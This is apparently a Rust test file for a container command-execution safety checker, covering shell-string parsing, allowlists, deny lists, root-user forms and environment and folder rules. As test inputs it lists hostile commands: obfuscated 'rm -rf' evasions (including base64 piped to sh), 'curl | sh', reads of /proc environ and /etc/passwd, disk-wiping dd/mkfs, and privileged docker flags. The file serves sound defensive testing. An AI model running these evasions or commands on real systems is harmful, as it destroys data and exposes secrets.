//! Row by row: threats.md sections 8 and 20. What these forms do in a real container is tried in tests/exec.

use crate::config::{self, Sources};

use super::*;

fn safety(text: &str) -> ExecSafety {
    let text = format!("[exec_safety]\n{text}");
    config::load_text(&Sources::default(), "config.toml", &text).unwrap().settings.exec.clone()
}

fn run(argv: &[&str], safety: &ExecSafety) -> Result<Ready, Refusal> {
    let argv: Vec<String> = argv.iter().map(|w| (*w).to_owned()).collect();
    let asked =
        Asked { argv: &argv, shell: false, user: Some("1000:1000"), workdir: None, env: &[], stdin: None };
    let place = Place { name: "app".into(), ..Place::default() };
    judge(asked, &place, safety, false)
}

fn line(text: &str, safety: &ExecSafety) -> Result<Ready, Refusal> {
    let (argv, shell) = said(text)?;
    let asked = Asked { argv: &argv, shell, user: Some("1000:1000"), workdir: None, env: &[], stdin: None };
    judge(asked, &Place { name: "app".into(), ..Place::default() }, safety, false)
}

#[test]
fn a_string_is_words_until_it_needs_a_shell() {
    for (text, words) in [
        ("ls -la /app", &["ls", "-la", "/app"][..]),
        ("  ls\t-la  ", &["ls", "-la"]),
        ("grep 'a b' \"c d\" e\\ f", &["grep", "a b", "c d", "e f"]),
        ("echo ''", &["echo", ""]),
        ("a'b'\"c\"d", &["abcd"]),
        ("curl http://x/y?z=1&", &[]),
        ("echo a#b ~x", &[]),
        ("env A=b c", &["env", "A=b", "c"]),
        ("find . -name x -print", &["find", ".", "-name", "x", "-print"]),
        ("echo \"it's\"", &["echo", "it's"]),
    ] {
        let (argv, shell) = said(text).unwrap();
        match words.is_empty() {
            true => assert!(shell && argv[..2] == ["sh", "-c"] && argv[2] == text, "{text}: {argv:?}"),
            false => {
                assert_eq!((argv, shell), (words.iter().map(|w| (*w).to_owned()).collect(), false), "{text}")
            }
        }
    }
    for text in [
        "ls; rm x",
        "ls && x",
        "ls || x",
        "ls | x",
        "ls &",
        "ls > x",
        "ls < x",
        "echo $X",
        "echo \"$X\"",
        "echo `x`",
        "echo $(x)",
        "ls *",
        "ls ?",
        "ls [a]",
        "ls ~",
        "X=1 ls",
        "! ls",
        "ls\nrm x",
        "(ls)",
        "{ ls; }",
        "if x; then y; fi",
        "ls;",
        "echo {a,b}",
        "ls 2>&1",
        "cat <<E\nx\nE",
        "f() { x; }",
        "for i in 1 2; do ls; done",
    ] {
        assert!(said(text).unwrap().1, "{text}");
    }
    for text in ["", "  ", "echo 'x", "echo \"x", "echo x\\"] {
        assert!(matches!(said(text), Err(Refusal::Malformed { .. })), "{text}");
    }
    let deep = format!("{}x{}", "(".repeat(4000), ")".repeat(4000));
    assert!(said(&deep).unwrap().1, "deep nesting is not read, and hurts nobody");
    let long = "x ".repeat(LONGEST);
    assert!(matches!(said(&long), Err(Refusal::Malformed { .. })));
}

/// E1: forms that a list of texts does not see; where only what is named may run, none of them does.
const EVASIONS: &[&[&str]] = &[
    &["rm", "-r", "-f", "/victim"],
    &["rm", "-fr", "/victim"],
    &["/bin/rm", "-rf", "/victim"],
    &["busybox", "rm", "-Rf", "/victim"],
    &["sh", "-c", "rm${IFS}-rf${IFS}/victim"],
    &["sh", "-c", "r''m -r''f /victim"],
    &["sh", "-c", "a=-rf; rm $a /victim"],
    &["sh", "-c", "echo cm0gLXJmIC92aWN0aW0= | base64 -d | sh"],
    &["sh", "-c", "$(printf '\\162\\155') -rf /victim"],
    &["busybox", "awk", "BEGIN{system(\"rm -rf /victim\")}"],
    &["busybox", "xargs", "rm", "-rf", "/victim"],
    &["busybox", "timeout", "5", "rm", "-rf", "/victim"],
    &["busybox", "env", "rm", "-rf", "/victim"],
    &["busybox", "setsid", "rm", "-rf", "/victim"],
    &["busybox", "find", "/victim", "-exec", "rm", "-rf", "{}", ";"],
    &["sh", "-c", "eval \"$X\""],
    &["sh", "-c", "rm \\\n-rf /victim"],
    &["shred", "/victim"],
    &["mv", "/victim", "/tmp/x"],
    &["sh", "-c", "ls; rm x"],
    &["sh", "-c", "ls\nrm x"],
    &["sh", "-c", "ls && rm x"],
    &["sh", "-c", "ls & rm x"],
    &["sh", "-c", "ls > /victim"],
    &["sh", "-c", "ls $(rm x)"],
    &["sh", "-c", "ls `rm x`"],
    &["sh", "-c", "PATH=/tmp ls"],
    &["sh", "-c", "ls() { rm x; }; ls"],
    &["sh", "-c", "ls <(rm x)"],
    &["sh", "-c", "ls /app/*"],
    &["sh", "-c", "(ls)"],
    &["sh", "-c", "if ls; then rm x; fi"],
    &["sh", "-c", "ls <<E\n$(rm x)\nE"],
    &["sh", "-ec", "ls"],
    &["sh", "-c", "ls", "x"],
    &["sh", "-s"],
    &["sh"],
    &["/tmp/ls"],
    &["lsof"],
    &["ls", "/etc"],
    &["ls", "/app", "/etc"],
    &["LS"],
    &["ls "],
    &["ls;rm"],
    &["ls\n"],
];

#[test]
fn e1_nothing_runs_but_what_is_named() {
    let named = safety(
        "mode = \"allowlist\"\nallowed_commands = [{ argv0 = \"ls\", args = [\"/app\"] }, \"cat /app/[a-z]+\\\\.log\", \"id\"]\n",
    );
    for argv in EVASIONS {
        assert!(matches!(run(argv, &named), Err(Refusal::Ruled { .. })), "{argv:?}");
    }
    for argv in [
        &["ls"][..],
        &["ls", "/app"],
        &["cat", "/app/x.log"],
        &["sh", "-c", "ls"],
        &["sh", "-c", "ls /app; cat /app/a.log && id || id | id"],
        &["/bin/sh", "-c", "'ls' \"/app\" 2>/dev/null"],
        &["sh", "-c", "ls 2>&1\nid"],
    ] {
        assert!(run(argv, &named).is_ok(), "{argv:?}: {:?}", run(argv, &named));
    }
    // Anchored at both ends, over the whole line.
    for argv in [
        &["cat", "/app/x.log", "y"][..],
        &["cat", "/app/x.log\n"],
        &["xcat", "/app/x.log"],
        &["cat", "/app/x.log /etc/y"],
    ] {
        assert!(run(argv, &named).is_err(), "{argv:?}");
    }
    assert!(line("ls /app", &named).is_ok());
    assert!(matches!(line("ls /app; id", &named), Err(Refusal::Ruled { .. })), "E2: no shell lines");
    let because = run(&["ls"], &named).unwrap().because;
    assert!(because[0].contains("config.toml:3"), "{because:?}");
}

#[test]
fn the_lists_catch_accidents() {
    let lists = safety(
        "denied_paths = [\"/proc\", \"/sys\", \"/dev\", \"/etc/ssl\"]\nblocked_patterns = [\"curl .*[|] *sh\"]\n",
    );
    for argv in [
        &["rm", "-rf", "/x"][..],
        &["rm", "-r", "-f", "/x"],
        &["rm", "-fr", "/x"],
        &["/bin/rm", "-Rf", "/x"],
        &["rm", "--recursive", "--force", "x"],
        &["busybox", "rm", "-rf", "x"],
        &["sh", "-c", "rm   -rf x"],
        &["sh", "-c", "r''m -r''f x"],
        &["sh", "-c", "rm${IFS}-rf${IFS}x"],
        &["sh", "-c", "true && (cd / && rm -rf x)"],
        &["sh", "-c", "echo $(rm -rf x)"],
        &["bash", "-ec", "for i in 1; do rm -rf x; done"],
        &["env", "A=1", "rm", "-rf", "x"],
        &["timeout", "5", "rm", "-rf", "x"],
        &["find", ".", "-exec", "rm", "-rf", "{}", ";"],
        &["sh", "-c", "eval 'rm -rf x'"],
        &["dd", "if=/x", "of=/y"],
        &["mkfs.ext4", "/x"],
        &["sh", "-c", "echo x >/dev/sda"],
        &["sh", "-c", "echo x > /dev/sda"],
        &["cat", "/proc/1/environ"],
        &["cat", "/proc/self/root/etc/passwd"],
        &["cat", "//proc//1/environ"],
        &["cat", "/app/../proc/1/environ"],
        &["cat", "--file=/proc/1/environ"],
        &["tar", "-C/etc/ssl", "x"],
        &["sh", "-c", "cat </sys/x"],
        &["docker", "run", "--privileged", "x"],
        &["docker", "run", "--pid=host", "x"],
        &["docker", "run", "--pid", "host", "x"],
        &["sh", "-c", "curl http://x | sh"],
    ] {
        let refused = run(argv, &lists);
        let Err(Refusal::Ruled { rule, instead, .. }) = refused else { panic!("{argv:?}: {refused:?}") };
        assert!(rule.contains("[exec_safety]") && instead.contains("no boundary"), "{rule}");
    }
    for argv in [
        &["ls", "-la", "/app"][..],
        &["rm", "/x"],
        &["rm", "-r", "x"],
        &["sh", "-c", "echo x > /dev/null 2>&1"],
        &["cat", "/dev/stdin"],
        &["cat", "/app/proc/x"],
        &["cat", "/processes"],
        &["ls", "/devices", "/etc/ssl.conf"],
        &["echo", "a/proc"],
        &["curl", "http://x/y"],
        &["sed", "s/a/b/"],
    ] {
        assert!(run(argv, &lists).is_ok(), "{argv:?}: {:?}", run(argv, &lists));
    }
    let argv = vec!["cat".to_owned(), "1/environ".to_owned()];
    for dir in ["/proc", "/proc/", "/x/../proc"] {
        let asked =
            Asked { argv: &argv, shell: false, user: Some("1:1"), workdir: Some(dir), env: &[], stdin: None };
        assert!(judge(asked, &Place::default(), &lists, false).is_err(), "{dir}");
    }
    assert!(run(&["rm", "-rf", "/x"], &safety("mode = \"none\"")).is_ok());
}

/// E5: 24 forms of users.
#[test]
fn e5_no_form_of_a_user_is_root() {
    let rules = safety("");
    let place = Place { name: "app".into(), ..Place::default() };
    let argv = vec!["id".to_owned()];
    let as_user = |user: Option<&str>, image: &str, rules: &ExecSafety| {
        let asked = Asked { argv: &argv, shell: false, user, workdir: None, env: &[], stdin: None };
        judge(asked, &Place { user: image.to_owned(), ..place.clone() }, rules, false).map(|ready| ready.user)
    };
    for user in [
        "",
        "0",
        "00",
        "000",
        "-0",
        "+0",
        "0:0",
        ":",
        ":0",
        "root",
        "toor",
        "app:0",
        "1000:0",
        "1000:root",
        "007",
        "0x0",
        "0 ",
        " 0",
        "1000:",
        ":1000",
        "1000:007",
        "app",
        "1000:1000:0",
        "4294967296",
        "2147483648",
        "1e3",
        "１０００",
        "-1",
        "1000:+5",
        "root:1000",
    ] {
        let refused = as_user(Some(user), "1000:1000", &rules);
        let Err(Refusal::Ruled { instead, .. }) = refused else { panic!("`{user}`: {refused:?}") };
        assert!(instead.contains("65534:65534"));
        assert!(as_user(None, user, &rules).is_err(), "the image's `{user}`");
    }
    assert_eq!(as_user(Some("1000"), "", &rules), Ok(Some("1000:1000".into())));
    assert_eq!(as_user(Some("1000:50"), "", &rules), Ok(Some("1000:50".into())));
    assert_eq!(as_user(None, "101", &rules), Ok(Some("101:101".into())));
    // What a name means the container says, whoever wrote it.
    let chosen = safety("default_user = \"app\"");
    assert!(as_user(None, "", &chosen).is_err() && as_user(Some("app"), "", &chosen).is_err());
    assert_eq!(as_user(None, "", &safety("default_user = \"999\"")), Ok(Some("999:999".into())));
    assert_eq!(
        as_user(None, "", &safety("default_user = \"app\"\nallow_root = true")),
        Ok(Some("app".into()))
    );
    assert!(as_user(Some("other"), "", &chosen).is_err());
    assert!(as_user(None, "1000", &safety("default_user = \"root\"")).is_err());
    assert!(as_user(None, "1000", &safety("default_user = \"5:0\"")).is_err());
    let root = safety("allow_root = true");
    assert_eq!(as_user(None, "", &root), Ok(None));
    assert_eq!(as_user(Some("root"), "", &root), Ok(Some("root".into())));
}

#[test]
fn a_rule_may_fix_the_user_and_the_containers() {
    let rules = safety(
        "mode = \"allowlist\"\nallowed_commands = [{ argv0 = \"id\", user = \"999:999\", containers = [\"*-db\"] }]\n",
    );
    let argv = vec!["id".to_owned()];
    let at = |name: &str, user: Option<&str>| {
        let asked = Asked { argv: &argv, shell: false, user, workdir: None, env: &[], stdin: None };
        judge(asked, &Place { name: name.into(), ..Place::default() }, &rules, false).map(|ready| ready.user)
    };
    assert_eq!(at("x-db", None), Ok(Some("999:999".into())));
    assert_eq!(at("x-db", Some("999:999")), Ok(Some("999:999".into())));
    assert!(at("x-db", Some("1000:1000")).is_err());
    assert!(at("web", None).is_err());
}

#[test]
fn e6_variables_and_e7_folders() {
    let argv = vec!["ls".to_owned()];
    let with = |names: &[&str], dir: Option<&str>, rules: &ExecSafety| {
        let env: Vec<String> = names.iter().map(|n| (*n).to_owned()).collect();
        let asked =
            Asked { argv: &argv, shell: false, user: Some("1:1"), workdir: dir, env: &env, stdin: None };
        judge(asked, &Place::default(), rules, false)
    };
    let any = safety("");
    assert!(with(&["PATH", "_x1"], None, &any).is_ok());
    for name in ["", "1X", "A=B", "A B", "A\0", "Ä"] {
        assert!(matches!(with(&[name], None, &any), Err(Refusal::Malformed { .. })), "{name:?}");
    }
    let named = safety("mode = \"allowlist\"\nallowed_commands = [\"ls\"]\nenv = [\"LANG\"]\n");
    assert!(with(&["LANG"], None, &named).is_ok());
    for name in ["LD_PRELOAD", "PATH", "BASH_ENV", "ENV", "PYTHONPATH", "NODE_OPTIONS", "IFS", "lang"] {
        assert!(with(&[name], None, &named).is_err(), "{name}");
    }
    assert!(with(&["LANG"], None, &safety("mode = \"allowlist\"\nallowed_commands = [\"ls\"]\n")).is_err());
    assert!(with(&["A"], None, &safety("env = \"none\"")).is_err());
    for dir in ["app", "", "./x", "/a/../b", "/..", "/proc/self/fd/8", "/a\0"] {
        assert!(with(&[], Some(dir), &any).is_err(), "{dir:?}");
    }
    assert!(with(&[], Some("/app//x/."), &any).is_ok());
    assert!(with(&[], Some("/proc/self/fd/8"), &safety("mode = \"none\"")).is_err());
}

#[test]
fn places_as_good_as_the_host_are_refused() {
    let argv = vec!["ls".to_owned()];
    let asked = Asked { argv: &argv, shell: false, user: Some("1:1"), workdir: None, env: &[], stdin: None };
    let place = Place {
        name: "app".into(),
        user: String::new(),
        powers: vec!["privileged".into()],
        ..Place::default()
    };
    let refused = judge(asked, &place, &safety("mode = \"none\""), false);
    assert!(matches!(refused, Err(Refusal::Ruled { .. })), "{refused:?}");
    assert!(judge(asked, &place, &safety("allow_privileged_targets = true"), false).is_ok());
    let bypassed = judge(Asked { user: None, ..asked }, &place, &safety(""), true).unwrap();
    assert_eq!(bypassed.user, None);
}

proptest::proptest! {
    /// No text makes the reader panic or take long, and what is said to need no shell holds nothing of one.
    #[test]
    fn any_text_is_read_or_refused(text in "[ -~\\n]{0,60}") {
        if let Ok((argv, false)) = said(&text) {
            proptest::prop_assert!(!text.contains('$') || text.contains(['\'', '\\']), "{argv:?}");
            proptest::prop_assert!(!argv.is_empty());
        }
        let named = safety("mode = \"allowlist\"\nallowed_commands = [\"id\"]\n");
        let argv = ["sh".to_owned(), "-c".to_owned(), text];
        let asked = Asked { argv: &argv, shell: false, user: Some("1:1"), workdir: None, env: &[], stdin: None };
        if judge(asked, &Place::default(), &named, false).is_ok() {
            let left = argv[2].replace("id", "").replace("/dev/null", "");
            let joins = |c: char| " \t\n;&|'\"\\<>012-#".contains(c) || c.is_ascii_alphanumeric() && argv[2].contains('#');
            proptest::prop_assert!(argv[2].contains('#') || left.chars().all(joins), "{:?}", argv[2]);
        }
    }
}
